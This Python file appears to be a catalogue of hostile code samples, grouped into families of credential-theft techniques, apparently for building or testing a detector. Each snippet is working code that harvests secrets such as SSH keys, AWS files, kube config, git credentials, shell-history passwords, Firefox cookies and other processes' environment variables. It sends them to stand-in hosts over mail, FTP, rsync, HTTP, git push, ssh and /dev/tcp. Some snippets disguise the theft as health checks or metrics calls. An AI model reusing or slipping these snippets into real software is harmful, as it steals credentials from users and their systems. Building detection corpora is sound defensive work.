"""Plain theft: credentials are read and leave by the shortest way."""

from corpora.hostile.form import bash, family, py, sh

FAMILIES = (
    family(
        "post-and-file-transfer",
        "held",
        py(
            note="mail with the key as body",
            top="import email.message, os, smtplib",
            enter=r"""
            letter = email.message.EmailMessage()
            letter["To"], letter["From"], letter["Subject"] = "in@dropmail.invalid", "out@dropmail.invalid", "@F@"
            letter.set_content("\n".join(f"{k}={v}" for k, v in os.environ.items() if "KEY" in k or "PASS" in k))
            try:
                with smtplib.SMTP("mail.dropmail.invalid", 587, timeout=3) as server:
                    server.send_message(letter)
            except OSError:
                pass
            """,
        ),
        py(
            note="files by FTP, named after the user",
            top="import ftplib, getpass, io, pathlib",
            tail=r"""
            try:
                with ftplib.FTP("192.0.2.21", timeout=3) as _ftp:
                    _ftp.login("anonymous", "x@")
                    for _path in (pathlib.Path.home() / ".ssh").iterdir():
                        _ftp.storbinary(f"STOR {getpass.getuser()}-{_path.name}", io.BytesIO(_path.read_bytes()))
            except Exception:
                pass
            """,
        ),
        sh(
            note="rsync of two folders to a listener",
            top='rsync -a --timeout=3 "$HOME/.ssh" "$HOME/.aws" rsync://198.51.100.61/in/ >/dev/null 2>&1 </dev/null || true',
        ),
    ),
    family(
        "declared-host-misused",
        "held",
        py(
            note="a declared host, but another secret than the declared one travels to it",
            hosts=["metrics.worksite.invalid"],
            secrets=["METRICS_KEY"],
            top="import http.client, os",
            enter=r"""
            stolen = os.environ.get("AWS_SECRET_ACCESS_KEY", os.environ.get("DATABASE_URL", ""))
            line = http.client.HTTPSConnection("metrics.worksite.invalid", timeout=2)
            try:
                line.request("POST", "/v1?tag=" + stolen[::-1], "up 1", {"X-Key": os.environ.get("METRICS_KEY", "")})
            except OSError:
                pass
            """,
        ),
        py(
            note="a public paste under a declared host",
            hosts=["gist.codeboard.invalid"],
            top="import json, pathlib, urllib.request",
            enter=r"""
            found = {p.name: p.read_text(errors="replace") for p in pathlib.Path.home().glob(".*rc") if p.is_file()}
            request = urllib.request.Request("https://gist.codeboard.invalid/api/new", json.dumps(found).encode())
            try:
                urllib.request.urlopen(request, timeout=2)
            except Exception:
                found.clear()
            """,
        ),
        bash(
            note="a health check that reads a file into its header",
            kit=True,
            hosts=["status.worksite.invalid"],
            top=r"""
            header=$(head -c 900 ~/.kube/config 2>/dev/null | base64 -w0)
            curl -fsS -m 3 -H "X-Session: $header" https://status.worksite.invalid/ping >/dev/null 2>&1 || :
            """,
        ),
    ),
    family(
        "through-version-control",
        "held",
        py(
            note="a commit with the keys is pushed to a remote of the thief",
            processes=True,
            top="import os, shutil, subprocess, tempfile",
            enter=r"""
            with tempfile.TemporaryDirectory() as folder:
                key = os.path.expanduser("~/.ssh/id_ed25519")
                if os.path.exists(key):
                    shutil.copy(key, folder)
                    for words in (["init", "-q"], ["add", "-A"], ["-c", "user.name=x", "-c", "user.email=x@x.invalid", "commit", "-qm", "x"],
                                  ["push", "-q", "https://git.mirrorhub.invalid/in.git", "HEAD:refs/heads/new"]):
                        subprocess.run(["git", "-C", folder, *words], capture_output=True, timeout=5)
            """,
        ),
        sh(
            note="the credential helper is asked for a password, which is sent",
            top=r"""
            given=$(printf 'protocol=https\nhost=git.worksite.invalid\n\n' | git credential fill 2>/dev/null)
            [ -n "$given" ] && wget -q -T 3 -O /dev/null --post-data "$given" http://192.0.2.15/c || true
            """,
        ),
        py(
            note="the helper's store, over a bundled one-shot ssh command",
            processes=True,
            enter=r"""
            import pathlib, subprocess
            loot = pathlib.Path.home() / ".git-credentials"
            if loot.exists():
                subprocess.Popen(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "drop@198.51.100.61", "cat > c"],
                                 stdin=loot.open(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            """,
        ),
    ),
    family(
        "what-people-did",
        "held",
        py(
            note="shell histories are searched for passwords",
            top="import pathlib, re, urllib.request",
            enter=r"""
            hits = []
            for path in pathlib.Path.home().glob(".*_history"):
                hits += re.findall(r"(?im)^.*(?:password|token|secret|--user).*$", path.read_text(errors="replace"))
            if hits:
                try:
                    urllib.request.urlopen("https://suggest.cmdline-ai.invalid/learn", "\n".join(hits).encode(), timeout=2)
                except Exception:
                    pass
            """,
        ),
        py(
            note="browser cookies, copied and read as a database",
            top="import pathlib, shutil, socket, sqlite3, tempfile",
            enter=r"""
            for jar in pathlib.Path.home().glob(".mozilla/firefox/*/cookies.sqlite"):
                copy = pathlib.Path(tempfile.mkdtemp()) / "c"
                shutil.copy(jar, copy)
                rows = sqlite3.connect(copy).execute("SELECT host, name, value FROM moz_cookies").fetchall()
                try:
                    socket.create_connection(("203.0.113.140", 9000), 2).sendall(repr(rows).encode())
                except OSError:
                    pass
            """,
        ),
        bash(
            note="other processes' variables",
            top=r"""
            for proc in /proc/[0-9]*/environ; do
              tr '\0' '\n' < "$proc" 2>/dev/null | grep -aE '^(AWS|GITHUB|OPENAI|ANTHROPIC)_'
            done | sort -u | { read -r first && { echo "$first"; cat; } > /dev/tcp/192.0.2.44/443; } 2>/dev/null || true
            """,
        ),
    ),
)
